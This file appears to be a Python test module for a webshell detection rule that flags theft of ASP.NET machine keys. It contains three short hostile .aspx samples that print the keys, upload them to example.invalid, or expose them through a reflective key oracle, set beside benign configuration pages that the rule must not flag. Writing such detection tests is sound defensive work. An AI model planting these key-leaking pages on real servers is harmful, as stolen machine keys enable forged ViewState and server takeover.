"""Rule change from the twentieth unseen collection (issue 14, helper X20): harmless reproductions.

All twelve pages of the collection (2023-2026 shapes: a machine-key dump page from a deserialization
cheat sheet, a SharePoint ToolShell PoC's dropped page, upload PoCs' pages, suo5's newest .NET tunnel,
AntSword's C# template pages, a web.config handing ``*.jpg`` to the page compiler) were found on first
sight, so no rule was written for a miss. Checking the machine-key rule against ordinary pages that read
the keys showed a false positive instead: a configuration health page that only compares both key
properties with ``"AutoGenerate"`` and writes a status sentence was called machine-key theft. The rule
now needs one read of the keys that is neither a comparison nor an assignment (or the reflective getter).
Pages that hand the keys over - printed, sent out, or used as an oracle - stay found. Written for these
tests, with placeholder names and example.invalid; never run.
"""

from __future__ import annotations

from .rule_tables import Page, RuleCase, rule_tables

KEY_RULE = "EXT_WEBSHELL_MachineKey_Theft"

# Pages that compare a key first and still hand the keys over: found.
KEY_HANDED_OVER: list[Page] = [
    (
        "cs-checks-one-key-then-prints-both",
        ".aspx",
        '<%@ Page Language="C#" %>\n<%@ Import Namespace="System.Web.Configuration" %>\n'
        '<script runat="server">\nvoid Page_Load(object s, EventArgs e) {\n'
        '    var mk = (MachineKeySection)WebConfigurationManager.GetSection("system.web/machineKey");\n'
        '    if (mk.ValidationKey.StartsWith("AutoGenerate")) return;\n'
        '    Response.Write(mk.ValidationKey + "|" + mk.DecryptionKey);\n}\n</script>',
    ),
    (
        "vb-compares-then-sends-out",
        ".aspx",
        '<%@ Page Language="VB" %>\n<%@ Import Namespace="System.Web.Configuration" %>\n'
        '<script runat="server">\nSub Page_Load(s As Object, e As EventArgs)\n'
        '    Dim k As MachineKeySection = CType(WebConfigurationManager.GetSection("system.web/machineKey"), '
        "MachineKeySection)\n"
        '    If k.DecryptionKey <> "" Then\n'
        "        Dim w As New System.Net.WebClient()\n"
        '        w.UploadString("http://example.invalid/k", k.ValidationKey & ";" & k.DecryptionKey)\n'
        "    End If\nEnd Sub\n</script>",
    ),
    (
        "reflective-getter-key-oracle",
        ".aspx",
        '<script runat="server" language="c#">\nvoid Page_Load() {\n'
        '    var t = typeof(System.Web.HttpContext).Assembly.GetType("System.Web.Configuration.MachineKeySection");\n'
        '    var g = t.GetMethod("GetApplicationConfig", System.Reflection.BindingFlags.Static | '
        "System.Reflection.BindingFlags.NonPublic);\n"
        "    var c = (System.Web.Configuration.MachineKeySection)g.Invoke(null, null);\n"
        '    Response.Write(c.ValidationKey.StartsWith(Request["p"]) ? "1" : "0");\n}\n</script>',
    ),
]

# Configuration pages that read both keys only to compare them, or set new ones: not theft.
KEY_ORDINARY: list[Page] = [
    (
        "cs-health-page-both-keys-autogenerate",
        ".aspx",
        '<%@ Page Language="C#" %>\n<%@ Import Namespace="System.Web.Configuration" %>\n'
        '<script runat="server">\nprotected void Page_Load(object sender, EventArgs e) {\n'
        '    var mk = (MachineKeySection)WebConfigurationManager.GetSection("system.web/machineKey");\n'
        '    bool auto = mk.ValidationKey.StartsWith("AutoGenerate") || mk.DecryptionKey.StartsWith("AutoGenerate");\n'
        '    Response.Write(auto ? "Keys are generated per server: set fixed keys before adding a second server."\n'
        '                        : "Fixed machine keys are configured.");\n}\n</script>',
    ),
    (
        "vb-health-page-equals-compare",
        ".aspx",
        '<%@ Page Language="VB" %>\n<%@ Import Namespace="System.Web.Configuration" %>\n'
        '<script runat="server">\nSub Page_Load(s As Object, e As EventArgs)\n'
        '    Dim k As MachineKeySection = CType(WebConfigurationManager.GetSection("system.web/machineKey"), '
        "MachineKeySection)\n"
        '    If k.ValidationKey = "AutoGenerate,IsolateApps" OrElse k.DecryptionKey = "AutoGenerate,IsolateApps" Then\n'
        '        Response.Write("This farm still uses generated keys.")\n    End If\nEnd Sub\n</script>',
    ),
    (
        "cs-key-rotation-setup-page",
        ".aspx",
        '<%@ Page Language="C#" %>\n<%@ Import Namespace="System.Web.Configuration" %>\n'
        '<script runat="server">\nstring NewKey(int n) { var b = new byte[n];\n'
        "    System.Security.Cryptography.RandomNumberGenerator.Create().GetBytes(b);\n"
        '    return BitConverter.ToString(b).Replace("-", ""); }\n'
        "void Rotate_Click(object s, EventArgs e) {\n"
        '    var cfg = WebConfigurationManager.OpenWebConfiguration("~");\n'
        '    var mk = (MachineKeySection)cfg.GetSection("system.web/machineKey");\n'
        "    mk.ValidationKey = NewKey(64);\n    mk.DecryptionKey = NewKey(32);\n    cfg.Save();\n"
        '    Response.Write("New machine keys written; restart the other servers of the farm.");\n}\n</script>',
    ),
]

CASES: list[RuleCase] = [(KEY_RULE, KEY_HANDED_OVER, KEY_ORDINARY)]

test_shell_is_found, test_ordinary_page_is_not_flagged, test_rule_needs_a_server_page = rule_tables(CASES)
